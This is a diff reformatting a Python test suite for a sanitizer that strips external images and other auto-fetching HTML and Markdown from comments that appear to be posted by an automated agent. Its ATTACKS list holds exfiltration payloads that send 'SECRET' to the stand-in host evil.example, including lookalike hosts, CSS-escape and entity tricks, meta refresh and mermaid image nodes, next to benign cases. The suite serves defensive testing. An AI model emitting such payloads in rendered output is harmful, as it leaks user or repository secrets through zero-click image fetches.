@@ -30,7 +30,8 @@ class _Fetches(HTMLParser):
         for name, value in attrs:
             value = value or ""
             fetches = name in ("src", "srcset", "poster", "data", "background", "xlink:href", "style") or (
-                name == "href" and tag not in ("a", "area"))
+                name == "href" and tag not in ("a", "area")
+            )
             if fetches and "evil" in value:
                 self.found.append(f"<{tag} {name}={value}>")
         if tag in ("iframe", "object", "embed", "link", "meta", "svg", "base"):
@@ -59,8 +60,10 @@ ATTACKS = [
     ("an image in a list item", f"- one\n- ![a]({EVIL})"),
     ("an image in a table cell", f"| a | b |\n| --- | --- |\n| x | ![a]({EVIL}) |"),
     ("an image in a heading", f"## Result ![a]({EVIL})"),
-    ("a shields.io badge (not allowed unless the policy allows the host)",
-     "![cov](https://img.shields.io/badge/cov-SECRET-green)"),
+    (
+        "a shields.io badge (not allowed unless the policy allows the host)",
+        "![cov](https://img.shields.io/badge/cov-SECRET-green)",
+    ),
     ("user info that names github.com", "![a](https://github.com@evil.example/p.png?d=SECRET)"),
     ("a host that only starts like github.com", "![a](https://github.com.evil.example/p.png?d=SECRET)"),
     ("a host that only ends like githubusercontent.com", "![a](https://evilgithubusercontent.com/p.png?d=SECRET)"),
@@ -93,16 +96,24 @@ ATTACKS = [
     ("<meta http-equiv=refresh>", f'<meta http-equiv="refresh" content="0; url={EVIL}">'),
     ("style= with url(", f'<div style="background: url({EVIL})">x</div>'),
     ("style= with an entity inside url(", '<p style="background:u&#114;l(https://evil.example/p.png?d=SECRET)">x</p>'),
-    ("style= with a CSS escape inside url(", '<p style="background:u\\72 l(https://evil.example/p.png?d=SECRET)">x</p>'),
+    (
+        "style= with a CSS escape inside url(",
+        '<p style="background:u\\72 l(https://evil.example/p.png?d=SECRET)">x</p>',
+    ),
     ("a background attribute", f'<table background="{EVIL}"><tr><td>x</td></tr></table>'),
     ("a fence-looking line inside an HTML block", f'<div>\n```\n<img src="{EVIL}">\n```\n</div>'),
     ("an HTML comment a browser ends early", f'<!-- --!> <img src="{EVIL}"> -->'),
     ("a processing instruction a browser ends at the first >", f'a <? > <img src="{EVIL}"> ?> b'),
     ("an image tag left open in an HTML block", f'<div>\n<img src="{EVIL}"\n</div>\n\nmore text'),
-    ("an image in an attribute value of an allowed tag", f'<a title="<img src={EVIL}>" href="https://github.com">x</a>'),
-    ("an HTML block whose first tag goes, with Markdown after it",
-     f'<img src="{EVIL}">\n![x](https://evil.example/q.png?d=SECRET)'),
-    ("a mermaid diagram with an image node", f"```mermaid\nflowchart TD\n  A@{{ img: \"{EVIL}\" }}\n```"),
+    (
+        "an image in an attribute value of an allowed tag",
+        f'<a title="<img src={EVIL}>" href="https://github.com">x</a>',
+    ),
+    (
+        "an HTML block whose first tag goes, with Markdown after it",
+        f'<img src="{EVIL}">\n![x](https://evil.example/q.png?d=SECRET)',
+    ),
+    ("a mermaid diagram with an image node", f'```mermaid\nflowchart TD\n  A@{{ img: "{EVIL}" }}\n```'),
 ]
 
 BENIGN = [
@@ -112,15 +123,17 @@ BENIGN = [
     ("GitHub's own workflow badge", "![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg)"),
     ("an uploaded attachment", "![shot](https://user-images.githubusercontent.com/1/abc.png)"),
     ("raw.githubusercontent.com in HTML", '<img src="https://raw.githubusercontent.com/o/r/main/a.png" width="200">'),
-    ("a picture whose sources are on GitHub",
-     '<picture><source srcset="https://github.com/a.png"><img src="https://github.com/b.png"></picture>'),
+    (
+        "a picture whose sources are on GitHub",
+        '<picture><source srcset="https://github.com/a.png"><img src="https://github.com/b.png"></picture>',
+    ),
     ("a plain link to anywhere (it needs a click)", "[report](https://evil.example/page?q=1)"),
     ("an HTML link to anywhere", '<a href="https://evil.example/x">x</a>'),
     ("an autolink to an image URL", "<https://evil.example/p.png>"),
     ("a bare image URL (GitHub makes it a link)", "see https://evil.example/p.png"),
-    ("an image inside a fenced block", f"```markdown\n![]({EVIL})\n<img src=\"{EVIL}\">\n```"),
+    ("an image inside a fenced block", f'```markdown\n![]({EVIL})\n<img src="{EVIL}">\n```'),
     ("an image inside a tilde fence in a list", f"- item\n\n  ~~~\n  ![]({EVIL})\n  ~~~"),
-    ("an image inside inline code", f"Use `![]({EVIL})` or `<img src=\"{EVIL}\">` in docs."),
+    ("an image inside inline code", f'Use `![]({EVIL})` or `<img src="{EVIL}">` in docs.'),
     ("an image in an indented code block", f"Example:\n\n    ![]({EVIL})"),
     ("details and summary", "<details><summary>Run log</summary>\n\n- **Bash** `ls`\n\n</details>"),
     ("comparisons", "a < b and c > d, x<y"),
@@ -214,8 +227,12 @@ def test_everything_posted_goes_through_finalize() -> None:
 
 def test_the_result_comment_removes_images_from_the_summary_but_not_from_diffs() -> None:
     patch = f"@@ -1 +1 @@\n+![]({EVIL})"
-    report = RunReport(conclusion="success", headline="Done", summary=f"Here is a chart: ![c]({EVIL})",
-                       files=(FileDiff("README.md", "modified", 1, 0, patch),))
+    report = RunReport(
+        conclusion="success",
+        headline="Done",
+        summary=f"Here is a chart: ![c]({EVIL})",
+        files=(FileDiff("README.md", "modified", 1, 0, patch),),
+    )
     text = render_result(report)
     assert "external image removed: evil.example" in text
     assert f"+![]({EVIL})" in text  # inside the diff's fence: shown as code, never rendered
